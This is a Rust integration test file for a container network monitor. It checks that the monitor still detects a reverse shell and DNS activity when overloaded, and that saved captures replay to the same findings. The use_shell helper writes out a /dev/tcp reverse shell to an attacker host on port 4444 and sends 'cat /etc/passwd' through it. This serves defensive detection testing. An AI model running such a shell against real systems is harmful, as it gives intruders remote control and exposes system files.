//! More traffic than can be read: bulk goes first, and what findings rest on stays.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, missing_docs)]

#[path = "support/host.rs"]
mod host;
#[path = "support/namespace.rs"]
mod namespace;

use std::collections::BTreeSet;
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};

use host::{ATTACKER, Host, VETHWATCH, alerts, findings, of_kind, until};
use serde_json::Value;

/// Takes all that is sent to it, and answers DNS queries with nothing found.
const SINK: &str = "import socket,sys,threading
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind(('203.0.113.66',5001)); s.listen()
u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.bind(('203.0.113.66',53))
def answer():
    while True:
        d,a=u.recvfrom(999); u.sendto(d[:2]+b'\\x81\\x83'+d[4:],a)
threading.Thread(target=answer,daemon=True).start()
sys.stderr.write('listening\\n'); sys.stderr.flush()
c,_=s.accept()
while c.recv(1<<20): pass";

/// Sends as fast as it can for so many seconds.
const BULK: &str = "import socket,sys,time
s=socket.create_connection(('203.0.113.66',5001)); end=time.time()+float(sys.argv[1])
while time.time()<end: s.sendall(bytes(1<<16))";

/// Asks for one name after another, and opens a connection at every tenth; says how many at the end.
const ASK: &str = "import socket,sys,time
end=time.time()+float(sys.argv[1]); n=0
while time.time()<end:
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1); n+=1
    name=('q%d'%n).encode()
    s.sendto(b'ab\\x01\\x00\\x00\\x01'+bytes(6)+bytes([len(name)])+name+b'\\x04test\\x00\\x00\\x01\\x00\\x01',('203.0.113.66',53))
    try: s.recv(999)
    except OSError: pass
    s.close()
    if n%10==0: socket.create_connection(('203.0.113.66',8080)).close()
    time.sleep(.005)
sys.stderr.write('asked %d.'%n)";

/// Names that were asked for, and connections that were opened: as many as records tell.
fn told(records: &Path) -> [usize; 2] {
    let dns = of_kind(records, "dns");
    let names: BTreeSet<String> = dns
        .iter()
        .filter_map(|record| Some(record["dns"]["queries"][0]["rrname"].as_str()?.to_owned()))
        .collect();
    let flows = of_kind(records, "flow");
    let ports: BTreeSet<u64> = flows
        .iter()
        .filter(|flow| flow["dest_port"] == 8080)
        .filter_map(|flow| flow["src_port"].as_u64())
        .collect();
    [names.len(), ports.len()]
}

fn last_stats(records: &Path) -> Value {
    of_kind(records, "stats").pop().unwrap()["vethwatch"].take()
}

fn interface(stats: &Value, name: &str, count: &str) -> u64 {
    let interfaces = stats["interfaces"].as_array().unwrap();
    let found = interfaces.iter().find(|interface| interface["name"] == name).unwrap();
    found[count].as_u64().unwrap()
}

/// Starts a shell in a container, and types into it.
fn use_shell(host: &mut Host, container: &str, listener: usize) {
    let shell = format!("exec 3<>/dev/tcp/{ATTACKER}/4444; exec sh <&3 >&3 2>&3");
    host.start(container, "bash", &["-c", &shell]);
    host.hears(listener, "connected");
    let mut typing = host.children[listener].stdin.take().unwrap();
    for command in ["id\n", "uname -a\n", "cat /etc/passwd\n", "ls /\n"] {
        typing.write_all(command.as_bytes()).unwrap();
        thread::sleep(Duration::from_millis(400));
    }
    host.children[listener].stdin = Some(typing);
}

/// Two watchers that each get a fifth of the time, one of which spares no bulk.
#[test]
#[ignore = "needs root and network namespaces"]
fn under_load_bulk_goes_first_and_is_counted() {
    let mut host = Host::new();
    let containers = [1, 2, 3].map(|number| host.container(number));
    let (spared, whole) = (host.path("spared.json"), host.path("whole.json"));
    let config = host.path("whole.toml");
    fs::write(&config, "[capture]\nbulk_cut_share = 1.0\n").unwrap();
    let small = ["--buffer", "2"];
    let sparing = host.watch(&spared, &small);
    let not_sparing =
        host.watch(&whole, &[&small[..], &["--config", config.to_str().unwrap()]].concat());
    host.serve();
    let listener = host.listen();
    let sink = host.start(&host.name.clone(), "python3", &["-c", SINK]);
    host.hears(sink, "listening");
    host.start(&containers[0], "python3", &["-c", BULK, "9"]);
    let asking = host.start(&containers[1], "python3", &["-c", ASK, "6"]);
    thread::scope(|scope| {
        let ids = [sparing, not_sparing].map(|watcher| host.children[watcher].id().to_string());
        scope.spawn(move || {
            let signal = |signal: &str| {
                let mut kill = Command::new("sh");
                let sent = kill.args(["-c", "kill $0 $1 $2", signal]).args(&ids).status();
                assert!(sent.unwrap().success());
            };
            let begin = Instant::now();
            while begin.elapsed() < Duration::from_secs(7) {
                signal("-STOP");
                thread::sleep(Duration::from_millis(80));
                signal("-CONT");
                thread::sleep(Duration::from_millis(20));
            }
        });
        thread::sleep(Duration::from_secs(2));
        use_shell(&mut host, &containers[2], listener);
    });
    until(Duration::from_secs(10), || host.log(asking).contains("asked"));
    let log = host.log(asking);
    let asked: usize = log.trim_start_matches("asked ").trim_end_matches('.').parse().unwrap();
    thread::sleep(Duration::from_secs(1));
    host.end(sparing);
    host.end(not_sparing);

    let [stats, of_whole] = [&spared, &whole].map(|records| last_stats(records));
    let [seen, seen_whole] = [&spared, &whole].map(|records| told(records));
    eprintln!(
        "of {asked} names and {} connections: {seen:?}, without sparing {seen_whole:?}",
        asked / 10
    );
    assert!(seen[0] * 100 >= asked * 85, "DNS: {seen:?} of {asked}\n{stats}");
    assert!(seen[1] * 100 >= asked * 85 / 10, "connections: {seen:?} of {}", asked / 10);
    let dropped = &of_whole["counters"]["dropped_frames"];
    assert!(dropped.as_u64().unwrap() > 10_000, "it was an overload: {of_whole}");
    assert!(seen_whole[0] * 100 < asked * 85, "sparing is what helps: {seen_whole:?} of {asked}");
    let alerts = alerts(&spared);
    let shell = alerts.iter().find(|alert| alert["vethwatch"]["detector"] == "reverse_shell");
    let capture = &shell.expect("the shell is found")["vethwatch"]["capture"];
    assert!(capture["bulk_cut_frames"].as_u64().unwrap() > 0, "{capture}");
    for (name, some) in [("c1", true), ("c2", false), ("c3", false)] {
        let spared = ["bulk_cut_frames", "bulk_cut_bytes"].map(|of| interface(&stats, name, of));
        assert_eq!(spared.map(|count| count > 0), [some; 2], "{name}: {stats}");
    }
    // One buffer serves all: what each lost is an estimate, and bulk's interface lost most.
    let lost = |name| interface(&of_whole, name, "kernel_dropped_frames_estimate");
    assert!(lost("c1") > 10 * lost("c3"), "{of_whole}");
    assert!(lost("c1") + lost("c2") + lost("c3") <= dropped.as_u64().unwrap());
}

/// Bulk that is always cut: by the kernel, as the frames that are kept show.
#[test]
#[ignore = "needs root and network namespaces"]
fn what_was_spared_replays_to_the_same_findings_and_volumes() {
    let mut host = Host::new();
    let pod = host.container(1);
    let (records, kept, config) =
        (host.path("records.json"), host.path("kept.pcapng"), host.path("config.toml"));
    fs::write(&config, "[capture]\nbulk_cut_share = 0.0\nbulk_drop_share = 1.0\n").unwrap();
    let [output, write, settings] = [&records, &kept, &config].map(|path| path.to_str().unwrap());
    let arguments = ["--format", "eve", "--output", output, "--write", write, "--config", settings];
    let watcher = host.start(&pod, VETHWATCH, &[&["sidecar"][..], &arguments].concat());
    host.hears(watcher, "watching eth0");
    let listener = host.listen();
    let sink = host.start(&host.name.clone(), "python3", &["-c", SINK]);
    host.hears(sink, "listening");
    host.start(&pod, "python3", &["-c", BULK, "1"]);
    use_shell(&mut host, &pod, listener);
    until(Duration::from_secs(3), || !alerts(&records).is_empty());
    host.children[listener].stdin = None;
    thread::sleep(Duration::from_secs(1));
    host.end(watcher);

    let replayed = host.path("replayed.json");
    let status = Command::new(VETHWATCH)
        .args(["replay", "--no-progress", "--format", "eve", "--container", "pod=10.213.1.2"])
        .args(["--output".as_ref(), replayed.as_path(), kept.as_path()])
        .status();
    assert!(status.unwrap().success());
    let stats = last_stats(&records);
    let cut = interface(&stats, "eth0", "bulk_cut_frames");
    assert!(cut > 100 && interface(&stats, "eth0", "bulk_dropped_frames") == 0, "{stats}");
    assert_eq!(last_stats(&replayed)["counters"]["cut_frames"], cut);
    let rules = |records: &Path| -> BTreeSet<String> {
        alerts(records).iter().map(|alert| alert["vethwatch"]["rule"].to_string()).collect()
    };
    assert!(!findings(&alerts(&records)).is_empty());
    assert_eq!(rules(&records), rules(&replayed));
    let volumes = |records: &Path| -> BTreeSet<String> {
        let flows = of_kind(records, "flow");
        let bulk = flows.iter().filter(|flow| flow["dest_port"] == 5001);
        bulk.map(|flow| format!("{} {}", flow["flow"], flow["tcp"]["state"])).collect()
    };
    assert_eq!(volumes(&records), volumes(&replayed));
    assert_eq!(volumes(&records).len(), 1);
}

/// A control group that gives two percent of a core. Gone with this value.
struct Quota(PathBuf);

impl Quota {
    /// None where control groups cannot be made here.
    fn new() -> Option<Self> {
        let (one, two) = (Path::new("/sys/fs/cgroup/cpu"), Path::new("/sys/fs/cgroup"));
        let is_one = one.join("cgroup.procs").exists();
        let group =
            if is_one { one } else { two }.join(format!("vethwatch-{}", std::process::id()));
        if !is_one {
            // What may already be so.
            let _ = fs::write(two.join("cgroup.subtree_control"), "+cpu");
        }
        fs::create_dir(&group).ok()?;
        let quota = Self(group);
        let [file, limit] =
            if is_one { ["cpu.cfs_quota_us", "2000"] } else { ["cpu.max", "2000 100000"] };
        fs::write(quota.0.join(file), limit).ok()?;
        Some(quota)
    }
}

impl Drop for Quota {
    fn drop(&mut self) {
        until(Duration::from_secs(5), || fs::remove_dir(&self.0).is_ok());
    }
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_monitor_that_gets_too_little_processor_says_so() {
    const SEND: &str = "import socket,time
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); end=time.time()+60
while time.time()<end:
    for port in range(1000,1200): s.sendto(b'x'*40,('10.213.2.1',port))
    time.sleep(.01)";
    let Some(quota) = Quota::new() else {
        host::skipped("no control group with a processor's limit can be made here");
        return;
    };
    let mut host = Host::new();
    let _idle = host.container(1);
    let busy = host.container(2);
    let records = host.path("records.json");
    let watcher = host.watch(&records, &["--events", "alert"]);
    fs::write(quota.0.join("cgroup.procs"), host.children[watcher].id().to_string()).unwrap();
    host.start(&busy, "python3", &["-c", SEND]);
    let is_throttled = |alert: &Value| alert["vethwatch"]["rule"] == "blind.throttled";
    until(Duration::from_secs(25), || alerts(&records).iter().any(is_throttled));
    // And of whatever was lost meanwhile.
    for alert in alerts(&records) {
        assert_eq!(alert["container"]["name"], busy, "{alert}");
    }
    drop(host);
    drop(quota);
}
